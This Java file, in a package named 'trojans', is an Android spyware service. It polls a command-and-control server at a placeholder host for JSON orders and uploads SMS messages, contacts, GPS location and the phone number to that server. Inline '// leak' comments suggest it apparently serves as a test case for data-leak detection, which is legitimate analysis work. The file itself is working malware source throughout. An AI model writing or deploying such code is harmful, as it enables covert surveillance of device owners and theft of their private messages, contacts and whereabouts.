package trojans;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.os.Build;
import android.os.IBinder;
import android.telephony.TelephonyManager;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import org.json.JSONArray;
import org.json.JSONObject;

/** A loop that asks a server for orders in JSON, and a chain of comparisons that obeys them. */
public class Commands extends Service implements Runnable {
    private String id = "none";

    public IBinder onBind(Intent intent) {
        return null;
    }

    public int onStartCommand(Intent intent, int flags, int number) {
        new Thread(this).start();
        return START_STICKY;
    }

    public void run() {
        while (true) {
            try {
                HttpURLConnection ask = (HttpURLConnection) new URL("http://c2.example.invalid/gate.php").openConnection();
                BufferedReader in = new BufferedReader(new InputStreamReader(ask.getInputStream()));
                StringBuilder text = new StringBuilder();
                for (String line; (line = in.readLine()) != null; ) {
                    text.append(line);
                }
                JSONArray orders = new JSONObject(text.toString()).getJSONArray("orders");
                for (int i = 0; i < orders.length(); i++) {
                    obey(orders.getJSONObject(i));
                }
                Thread.sleep(60000);
            } catch (Exception e) {
                id = "failed";
            }
        }
    }

    private void obey(JSONObject order) throws Exception {
        String what = order.optString("cmd");
        JSONObject answer = new JSONObject();
        answer.put("cmd", what);
        if (what.equals("ping")) {
            answer.put("answer", "pong");
            plain(answer);
        } else if (what.equals("model")) {
            answer.put("answer", Build.VERSION.SDK_INT);
            plain(answer);
        } else if (what.equals("sms")) {
            answer.put("answer", rows(Uri.parse(order.getString("box")), "address", "body"));
            told(answer);
        } else if (what.equals("book")) {
            answer.put("answer", rows(Uri.parse("content://com.android.contacts/data/phones"), "display_name", "data1"));
            told(answer);
        } else if (what.equals("where")) {
            LocationManager places = (LocationManager) getSystemService(LOCATION_SERVICE);
            Location last = places.getLastKnownLocation("gps");
            answer.put("lat", last.getLatitude()).put("lon", last.getLongitude());
            placed(answer);
        } else if (what.equals("who")) {
            TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
            answer.put("answer", phone.getLine1Number());
            named(answer);
        } else if (what.equals("sleep")) {
            Thread.sleep(order.getLong("answer"));
            plain(answer);
        } else {
            answer.put("answer", "unknown order");
            plain(answer);
        }
    }

    private JSONArray rows(Uri uri, String first, String second) throws Exception {
        JSONArray all = new JSONArray();
        Cursor rows = getContentResolver().query(uri, null, null, null, null);
        while (rows.moveToNext()) {
            JSONObject one = new JSONObject();
            one.put("a", rows.getString(rows.getColumnIndex(first)));
            one.put("b", rows.getString(rows.getColumnIndex(second)));
            all.put(one);
        }
        rows.close();
        return all;
    }

    private void plain(JSONObject answer) throws Exception {
        OutputStream out = line("/plain");
        out.write(answer.toString().getBytes()); // no leak
    }

    private void told(JSONObject answer) throws Exception {
        OutputStream out = line("/told");
        out.write(answer.toString().getBytes("UTF-8")); // leak
    }

    private void placed(JSONObject answer) throws Exception {
        OutputStream out = line("/placed");
        out.write(answer.toString().getBytes()); // leak
    }

    private void named(JSONObject answer) throws Exception {
        OutputStream out = line("/named");
        out.write(answer.toString(2).getBytes()); // leak
    }

    private OutputStream line(String path) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL("http://c2.example.invalid" + path).openConnection();
        c.setDoOutput(true);
        c.setRequestMethod("POST");
        return c.getOutputStream();
    }
}
